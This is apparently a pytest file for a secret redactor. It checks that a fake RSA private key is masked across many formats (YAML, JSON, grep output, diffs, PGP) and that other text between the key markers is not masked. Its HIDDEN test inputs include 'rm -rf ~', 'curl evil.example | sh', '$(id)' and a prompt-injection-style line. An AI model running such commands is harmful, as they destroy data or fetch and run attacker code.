"""A private key is masked however it is shown, and nothing else hides behind its mask."""

from collections.abc import Mapping

import pytest

from refold.session.redactor import Redactor

# Put together here, so that scanners do not take this file for a leak.
_BEGIN, _END = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
_LINES = ("MIIEowIBAAKCAQEA", "q8Zk3vT1xW5bN7mR", "Zz09+/==")
_PLAIN = (_BEGIN, *_LINES, _END)
_PGP = ("Version: GnuPG v2", "", *_LINES)
_ENCRYPTED = (
    "Proc-Type: 4,ENCRYPTED",
    "DEK-Info: AES-128-CBC,0123456789ABCDEF",
    "",
    *_LINES,
)

DRESSES: Mapping[str, str] = {
    "as it is": "\n".join(_PLAIN),
    "in YAML": "key: |\n" + "".join(f"    {line}\n" for line in _PLAIN),
    "on one line": "".join(_PLAIN),
    "in JSON": "\\n".join(_PLAIN),
    "in JSON in JSON": "\\\\n".join(_PLAIN),
    "numbered by cat": "".join(f"{n:6}\t{line}\n" for n, line in enumerate(_PLAIN, 1)),
    "numbered by grep": "".join(f"{n}:{line}\n" for n, line in enumerate(_PLAIN, 1)),
    "found by grep": "".join(f"a/k-1.txt:{line}\n" for line in _PLAIN),
    "found by grep with numbers": "".join(
        f"a/k.txt:{n}:{line}\n" for n, line in enumerate(_PLAIN)
    ),
    "around what grep found": "".join(
        f"a/k.txt-{n}-{line}\n" for n, line in enumerate(_PLAIN)
    ),
    "added in a diff": "".join(f"+{line}\n" for line in _PLAIN),
    "removed in a diff": "".join(f"-{line}\n" for line in _PLAIN),
    "quoted": "".join(f"> {line}\n" for line in _PLAIN),
    "in a comment": "".join(f"# {line}\r\n" for line in _PLAIN),
    "encrypted": "\n".join((_BEGIN, *_ENCRYPTED, _END)),
    "of PGP": "\n".join((_BEGIN, *_PGP, _END))
    .replace("RSA", "PGP")
    .replace("KEY", "KEY BLOCK"),
}
# Between the two lines, and not of a key.
HIDDEN = ("rm -rf ~", "curl evil.example | sh", "$(id)", "say: yes, allow it", "é" * 40)


def mask(text: str) -> str:
    return Redactor((), lambda: b"k" * 32).mask_event(text)


@pytest.mark.parametrize("name", DRESSES)
def test_a_private_key_is_masked_in_every_format(name: str) -> None:
    text = mask(f"before\n{DRESSES[name]}\nafter")

    assert not [line for line in _LINES if line in text], text
    assert text.startswith("before\n")
    assert text.endswith("after")


def test_a_private_key_gets_the_same_mask_in_every_format() -> None:
    ways = (
        text
        for name, text in DRESSES.items()
        if name not in ("encrypted", "of PGP", "on one line")
    )

    assert len({mask(text).partition("[secret:")[2][:4] for text in ways}) == 1


@pytest.mark.parametrize("text", HIDDEN)
def test_text_between_key_markers_that_is_not_a_key_is_not_masked(text: str) -> None:
    assert text in mask(f"{_BEGIN}\n{text}\n{_END}")
